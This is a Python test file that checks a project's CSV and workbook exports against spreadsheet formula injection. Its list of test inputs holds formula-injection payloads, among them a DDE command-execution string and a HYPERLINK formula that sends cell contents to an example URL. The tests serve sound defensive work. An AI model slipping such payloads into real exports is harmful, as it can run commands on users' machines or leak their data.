"""No file that people open in a spreadsheet runs what stood in somebody's data."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pandas as pd
import pytest

from kansenbeeld.conversations.deck.pptx.plots import Line, Plot
from kansenbeeld.conversations.deck.pptx.workbook import workbook
from kansenbeeld.exports.tables import inert, to_csv
from kansenbeeld.language import language

NASTY = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(A1:A9)",
    "|cmd",
    "%0A=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\uff5ccmd",
    "\ufe66 1",
    '="a";=b',
    '=HYPERLINK("http://example.org?x="&A1,"click")',
)
HARMLESS = ("De Ster", "vmbo-gt/havo", "2019/20", "<5", "12%", "0.5", "", "'t Eenspan", "\u22125")


@pytest.mark.parametrize("value", NASTY)
def test_a_formula_gets_an_apostrophe(value: str) -> None:
    written = inert(value)
    assert isinstance(written, str)
    assert written.startswith("'")
    assert "\r" not in written
    assert "\0" not in written


@pytest.mark.parametrize("value", [*HARMLESS, -5, 1.5, None, True])
def test_numbers_and_plain_texts_stay_as_they_are(value: object) -> None:
    assert inert(value) == value


def test_cells_and_names_of_columns_in_a_csv_are_inert() -> None:
    frame = pd.DataFrame({f"{value}{number}": [value, "x"] for number, value in enumerate(NASTY)} | {"n": [-5, 3]})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8"), newline="")))
    assert len(rows) == 3
    assert all(cell.startswith("'") for cell in rows[0][:-1])
    assert all(cell.startswith("'") for cell in rows[1][:-1])
    assert [row[-1] for row in rows] == ["n", "-5", "3"]


def test_the_sheet_behind_a_chart_has_no_formulas_and_no_links() -> None:
    lines = (Line("=1+1", (1.0, 2.0)),)
    plot = Plot("bars", "", ("=1+1", "http://example.org"), lines, 0, 100, 50, "0")
    made = workbook(plot, ["=HYPERLINK(A1)"], language("nl"), dt.date(2026, 1, 1))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        texts = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert "=HYPERLINK(A1)" in texts
